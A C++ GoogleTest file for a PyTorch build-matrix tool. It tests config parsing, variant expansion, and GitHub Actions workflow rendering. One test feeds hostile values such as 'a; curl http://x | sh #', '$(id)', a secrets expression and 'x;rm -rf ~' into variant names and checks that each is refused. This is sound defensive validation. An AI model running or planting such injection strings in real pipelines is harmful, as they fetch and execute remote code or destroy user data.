// tailor.toml parsing and matrix expansion: the variant names of examples/tailor.toml.
#include <gtest/gtest.h>

#include <limits>

#include "plan/matrix.h"
#include "plan/torch_plan.h"
#include "support/host_reports.h"
#include "util/strings.h"

namespace tailor::plan {
namespace {

std::vector<std::string> names(const std::vector<TorchVariant>& vs) {
  std::vector<std::string> out;
  for (const auto& v : vs) out.push_back(v.name);
  return out;
}

TEST(TorchMatrix, ExampleReproducesTheNixMatrix) {
  auto config = load_tailor_config(std::string(TAILOR_SOURCE_DIR) + "/examples/tailor.toml");
  ASSERT_TRUE(config) << config.error().message;
  auto vs = config_variants(*config);
  ASSERT_TRUE(vs) << vs.error().message;
  EXPECT_EQ(names(*vs), (std::vector<std::string>{"pytorch-sm90-avx512", "pytorch-sm86-avx2",
                                                  "pytorch-cpu-avx2"}));
  for (const auto& v : *vs) {
    TorchPlan p = resolve_torch_plan(v, testing::x86_cuda128_host());
    EXPECT_FALSE(p.has_errors()) << v.name;
    EXPECT_EQ(p.python_version, "3.13");
  }
  auto cpu = find_config_variant(*config, "pytorch-cpu-avx2");
  ASSERT_TRUE(cpu);
  EXPECT_TRUE(cpu->cpu_only.value_or(false));
  EXPECT_FALSE(find_config_variant(*config, "pytorch-sm75-avx2"));
}

TEST(TorchMatrix, ProductExcludeIncludeAndVaryingAxes) {
  auto config = parse_tailor_config(R"(
[defaults]
torch = "2.9.1"
[matrix]
gpu = ["8.0", "H100"]
cpu = ["avx2"]
cuda = ["12.6", "12.8"]
exclude = [{ gpu = "8.0", cuda = "12.8" }]
include = [{ gpu = "8.0+PTX", cpu = "avx512", cuda = "12.8" }]
)",
                                    "t.toml");
  ASSERT_TRUE(config) << config.error().message;
  auto vs = config_variants(*config);
  ASSERT_TRUE(vs) << vs.error().message;
  EXPECT_EQ(names(*vs),
            (std::vector<std::string>{"pytorch-sm80-avx2-cu126", "pytorch-sm90-avx2-cu126",
                                      "pytorch-sm90-avx2-cu128", "pytorch-sm80ptx-avx512-cu128"}));
  EXPECT_EQ((*vs)[0].torch.value_or(""), "2.9.1");
  EXPECT_EQ((*vs)[3].cuda, (cuda::CudaVersion{12, 8}));
}

TEST(TorchMatrix, NamedVariantsAndErrors) {
  auto config = parse_tailor_config(R"(
[variant.t4g]
torch = "2.9.1"
cuda = "cu126"
python = "3.10"
arch = "T4G"
platform = "aarch64"
)",
                                    "t.toml");
  ASSERT_TRUE(config);
  auto v = find_config_variant(*config, "t4g");
  ASSERT_TRUE(v);
  EXPECT_EQ(v->cuda, (cuda::CudaVersion{12, 6}));
  EXPECT_FALSE(parse_tailor_config("[variant.x]\npython = 3.10\n", "t.toml"));
  auto typo = parse_tailor_config("[variant.x]\ncuda_version = \"12.6\"\n", "t.toml");
  ASSERT_FALSE(typo);
  EXPECT_NE(typo.error().message.find("unknown key 'cuda_version'"), std::string::npos);
  EXPECT_FALSE(parse_tailor_config("[matrix]\ngpus = [\"9.0\"]\n", "t.toml"));
  auto bad = parse_tailor_config("[matrix]\ngpu = [\"hoper\"]\n", "t.toml");
  ASSERT_TRUE(bad);
  EXPECT_FALSE(config_variants(*bad));
}

TEST(TorchMatrix, GithubActionsOneJobPerVariant) {
  auto config = load_tailor_config(std::string(TAILOR_SOURCE_DIR) + "/examples/tailor.toml");
  ASSERT_TRUE(config);
  auto vs = config_variants(*config);
  ASSERT_TRUE(vs);
  auto rendered = render_github_actions(*config, *vs);
  ASSERT_TRUE(rendered) << rendered.error().message;
  const std::string* wf = &rendered->text;
  for (const auto& n : names(*vs)) {
    EXPECT_NE(wf->find("  " + n + ":\n"), std::string::npos) << n;
    EXPECT_NE(wf->find("    name: '" + n + "'\n"), std::string::npos) << n;
    // Absolute paths under the workspace: the build runs in the source tree.
    EXPECT_NE(wf->find("--variant " + n + " --work-dir '${{ github.workspace }}/tailor-work/" + n +
                       "' --cache sccache --out '${{ github.workspace }}/dist/" + n + "'\n"),
              std::string::npos)
        << n << "\n"
        << *wf;
    EXPECT_NE(wf->find("            ${{ github.workspace }}/dist/" + n + "/\n"), std::string::npos)
        << n;
  }
  // An absolute config path stays as given; a relative one is read in the workspace.
  EXPECT_NE(wf->find("          tailor build torch --config " + config->path + " --variant "),
            std::string::npos)
      << *wf;
  config->path = "examples/tailor.toml";
  auto relative = render_github_actions(*config, *vs);
  ASSERT_TRUE(relative);
  EXPECT_NE(
      relative->text.find("--config '${{ github.workspace }}/examples/tailor.toml' --variant "),
      std::string::npos)
      << relative->text;
  EXPECT_NE(wf->find("jobs:"), std::string::npos);
}

TEST(TorchMatrix, WorkflowRunnerFollowsTheImpliedPlatform) {
  auto config = parse_tailor_config(R"(
[defaults]
torch = "2.9.1"
[variant.graviton]
arch = "g5g.xlarge"
[variant.intel]
arch = "8.6"
platform = "x86_64"
)",
                                    "tailor.toml");
  ASSERT_TRUE(config) << config.error().message;
  auto vs = config_variants(*config);
  ASSERT_TRUE(vs) << vs.error().message;
  auto wf = render_github_actions(*config, *vs);
  ASSERT_TRUE(wf) << wf.error().message;
  // GPU variants: self-hosted runners of the platform the GPU implies (T4G: aarch64).
  EXPECT_NE(wf->text.find("  graviton:\n    name: 'graviton'\n"
                          "    # gpu-aarch64, self-hosted: GPU targets or CUDA (the runner needs "
                          "the CUDA toolkit)\n"
                          "    runs-on: ['self-hosted', 'linux', 'arm64', 'gpu']\n"),
            std::string::npos)
      << wf->text;
  EXPECT_NE(
      wf->text.find(
          "  intel:\n    name: 'intel'\n"
          "    # gpu-x86_64, self-hosted: GPU targets or CUDA (the runner needs the CUDA toolkit)\n"
          "    runs-on: ['self-hosted', 'linux', 'x64', 'gpu']\n"),
      std::string::npos)
      << wf->text;
  // A platform that contradicts the GPU is a config problem.
  auto bad = parse_tailor_config(
      "[variant.x]\ntorch = \"2.9.1\"\narch = \"T4G\"\nplatform = \"x86_64\"\n", "t.toml");
  ASSERT_TRUE(bad);
  auto bad_vs = config_variants(*bad);
  ASSERT_FALSE(bad_vs);
  EXPECT_EQ(bad_vs.error().message,
            "t.toml: variant x: platform x86_64 conflicts with T4G, which exists only on aarch64");
}

TEST(TorchMatrix, HostileNamesAreRefused) {
  // A variant name is a job id, a folder and an argument: only [A-Za-z0-9._-]{1,64}.
  for (const char* name : {"\"a; curl http://x | sh #\"", "\"a\\nb\"", "\"a b\"", "\"$(id)\"",
                           "\"${{ secrets.X }}\""}) {
    auto config = parse_tailor_config(
        std::string("[variant.") + name + "]\ntorch = \"2.9.1\"\narch = \"8.0\"\n", "t.toml");
    ASSERT_TRUE(config) << name << ": " << config.error().message;
    auto vs = config_variants(*config);
    ASSERT_FALSE(vs) << name;
    EXPECT_NE(vs.error().message.find("is not a valid name (1-64 of A-Z a-z 0-9 . _ -)"),
              std::string::npos)
        << vs.error().message;
    EXPECT_EQ(vs.error().message.find('\n'), std::string::npos)
        << "one line: " << vs.error().message;
    // The renderer refuses it too, whoever calls it.
    TorchVariant v;
    v.name = config->variants.front().name;
    EXPECT_FALSE(render_github_actions(*config, {v})) << name;
  }
  auto prefix =
      parse_tailor_config("[matrix]\nprefix = \"x;rm -rf ~\"\ngpu = [\"8.0\"]\n", "t.toml");
  ASSERT_TRUE(prefix);
  EXPECT_FALSE(config_variants(*prefix));
  EXPECT_TRUE(valid_variant_name("pytorch-sm90-avx512-torch2.9.1"));
  EXPECT_FALSE(valid_variant_name(std::string(65, 'a')));
  EXPECT_FALSE(valid_variant_name(""));
}

TEST(TorchMatrix, WorkflowQuotesEverything) {
  // A config path with a quote, a space and a `$`: single-quoted YAML ('' escapes) around
  // shell-quoted words; a newline or `${{` in it cannot be emitted at all.
  TailorConfig config;
  config.path = "my dir/it's $HOME.toml";
  TorchVariant v;
  v.name = "v1.0";
  v.arch = {"8.0"};
  auto wf = render_github_actions(config, {v});
  ASSERT_TRUE(wf) << wf.error().message;
  EXPECT_NE(
      wf->text.find("        run: 'tailor doctor --config ''${{ github.workspace }}/my "
                    "dir/it''\\''''s $HOME.toml'' "
                    "--variant v1.0 --work-dir ''${{ github.workspace }}/tailor-work/v1.0'''\n"),
      std::string::npos)
      << wf->text;
  EXPECT_NE(wf->text.find("  v1_0:\n"), std::string::npos) << "job ids have no dots";
  for (const char* path : {"a\nb.toml", "${{ github.token }}.toml"}) {
    config.path = path;
    EXPECT_FALSE(render_github_actions(config, {v})) << path;
  }
  // Each run: line is one YAML single-quoted scalar whose quotes are all doubled.
  config.path = "tailor.toml";
  wf = render_github_actions(config, {v});
  ASSERT_TRUE(wf);
  size_t runs = 0;
  for (const auto& line : split_any(wf->text, "\n")) {
    if (line.find("run: ") == std::string::npos || line.find("run: |") != std::string::npos)
      continue;
    ++runs;
    std::string value = line.substr(line.find("run: ") + 5);
    ASSERT_GE(value.size(), 2u);
    EXPECT_EQ(value.front(), '\'');
    EXPECT_EQ(value.back(), '\'');
    std::string inner = value.substr(1, value.size() - 2);
    for (size_t i = 0; i < inner.size(); ++i) {
      if (inner[i] == '\'') {
        EXPECT_TRUE(i + 1 < inner.size() && inner[i + 1] == '\'') << line;
        ++i;
      }
    }
  }
  EXPECT_EQ(runs,
            2u);  // sccache's install and the pre-flight checks; the others are literal blocks
}

TEST(TorchMatrix, EveryAxisValueIsCheckedAndAllProblemsReported) {
  auto config = parse_tailor_config(R"(
[defaults]
torch = "2.9.1"
[matrix]
gpu = ["8.0", "hoper"]
cpu = ["avx2", "avx9000"]
cuda = ["12.8", "17.3"]
python = ["3.12", "3.39", "three"]
)",
                                    "t.toml");
  ASSERT_TRUE(config) << config.error().message;
  auto vs = config_variants(*config);
  ASSERT_FALSE(vs);
  const std::string& m = vs.error().message;
  EXPECT_EQ(m.rfind("t.toml: 5 problems:", 0), 0u) << m;
  for (const char* part :
       {"t.toml: matrix.gpu[1]: 'hoper' is not a GPU target",
        "t.toml: matrix.cpu[1]: 'avx9000' is not a CPU target tailor knows",
        "t.toml: matrix.cuda[1]: CUDA '17.3' is not a version tailor knows",
        "t.toml: matrix.python[1]: Python 3.39 is not supported by torch 2.9.1 (supported: 3.10",
        "t.toml: matrix.python[2]: Python 'three' is not a version like 3.12"})
    EXPECT_NE(m.find(part), std::string::npos) << part << "\n" << m;
  auto torch = parse_tailor_config(
      "[matrix]\ntorch = [\"2.9.1\", \"9.9.9\"]\ngpu = [\"8.0\"]\n"
      "include = [{ gpu = \"sm_999\" }]\n",
      "t.toml");
  ASSERT_TRUE(torch);
  auto tv = config_variants(*torch);
  ASSERT_FALSE(tv);
  EXPECT_NE(tv.error().message.find("matrix.torch[1]: torch '9.9.9' is not a release tailor knows"),
            std::string::npos)
      << tv.error().message;
  EXPECT_NE(tv.error().message.find("matrix.include[0].gpu: 'sm_999'"), std::string::npos)
      << tv.error().message;
}

std::string repeated(const std::string& value, int n) {
  std::string out;
  for (int i = 0; i < n; ++i) out += std::string(i ? ", " : "") + "\"" + value + "\"";
  return out;
}

TEST(TorchMatrix, ExpansionIsCappedWithoutBuildingIt) {
  // About 1 KB of TOML: 40 x 40 x 40 x 4 = 256,000 combinations, refused with the count.
  std::string text = "[defaults]\ntorch = \"2.9.1\"\n[matrix]\ngpu = [" + repeated("8.0", 40) +
                     "]\ncpu = [" + repeated("avx2", 40) + "]\ncuda = [" + repeated("12.8", 40) +
                     "]\npython = [\"3.10\", \"3.11\", \"3.12\", \"3.13\"]\n";
  auto config = parse_tailor_config(text, "big.toml");
  ASSERT_TRUE(config) << config.error().message;
  EXPECT_EQ(count_rows(*config->matrix).rows, 256000u);
  auto vs = config_variants(*config);
  ASSERT_FALSE(vs);
  EXPECT_EQ(vs.error().message,
            "big.toml: the matrix expands to 256000 variants (cpu 40 x cuda 40 x gpu 40 x python "
            "4), more than the "
            "limit of 512; narrow the axes or add exclude rows");
  // Exclude rows are counted exactly (by walking, one row at a time).
  MatrixSpec spec;
  spec.axes = {{"gpu", {"8.0", "9.0"}}, {"cuda", {"12.6", "12.8", "13.0"}}};
  spec.exclude = {{{"gpu", "8.0"}}};
  spec.include = {{{"gpu", "7.5"}, {"cuda", "12.6"}}};
  auto n = count_rows(spec);
  EXPECT_TRUE(n.exact);
  EXPECT_EQ(n.rows, expand_rows(spec).size());
  EXPECT_EQ(n.rows, 4u);
  // 600 combinations trimmed to 500 by exclude rows: under the limit, counted exactly.
  MatrixSpec trimmed;
  trimmed.axes.push_back({"python", {}});
  for (int i = 0; i < 600; ++i) trimmed.axes[0].values.push_back("3." + std::to_string(i));
  for (int i = 0; i < 100; ++i) trimmed.exclude.push_back({{"python", "3." + std::to_string(i)}});
  EXPECT_TRUE(count_rows(trimmed).exact);
  EXPECT_EQ(count_rows(trimmed).rows, 500u);
  EXPECT_EQ(expand_rows(trimmed).size(), 500u);
  // Products that overflow 64 bits saturate.
  MatrixSpec huge;
  for (int i = 0; i < 20; ++i) huge.axes.push_back({"gpu", std::vector<std::string>(1000, "8.0")});
  EXPECT_FALSE(count_rows(huge).exact);
  EXPECT_EQ(count_rows(huge).rows, std::numeric_limits<uint64_t>::max());
}

// --cuda, a tailor.toml's cuda and a matrix axis read CUDA once, into cuda::CudaVersion.
TEST(TorchVariantCuda, EverySpellingOrCpu) {
  for (const char* text : {"12.6", "12.6.3", "cu126", "CU126", " 12.6 "}) {
    auto c = parse_cuda_choice(text);
    ASSERT_TRUE(c) << text;
    EXPECT_EQ(*c, (cuda::CudaVersion{12, 6})) << text;
  }
  for (const char* cpu : {"cpu", "none", "CPU-only"}) {
    auto c = parse_cuda_choice(cpu);
    ASSERT_TRUE(c) << cpu;
    EXPECT_FALSE(*c) << cpu;
  }
  auto bad = parse_cuda_choice("cu12");
  ASSERT_FALSE(bad);
  EXPECT_EQ(bad.error().message, "CUDA version 'cu12' is not like 12.6, cu126 or none");
}

TEST(TorchMatrix, CudaAxisSpellingsNameVariantsByTheirLabel) {
  auto config = parse_tailor_config(R"(
[defaults]
torch = "2.9.1"
[matrix]
gpu = ["9.0"]
cuda = ["12.6", "cu128"]
)",
                                    "t.toml");
  ASSERT_TRUE(config) << config.error().message;
  auto vs = config_variants(*config);
  ASSERT_TRUE(vs) << vs.error().message;
  EXPECT_EQ(names(*vs), (std::vector<std::string>{"pytorch-sm90-cu126", "pytorch-sm90-cu128"}));
  EXPECT_EQ((*vs)[1].cuda, (cuda::CudaVersion{12, 8}));
}

}  // namespace
}  // namespace tailor::plan
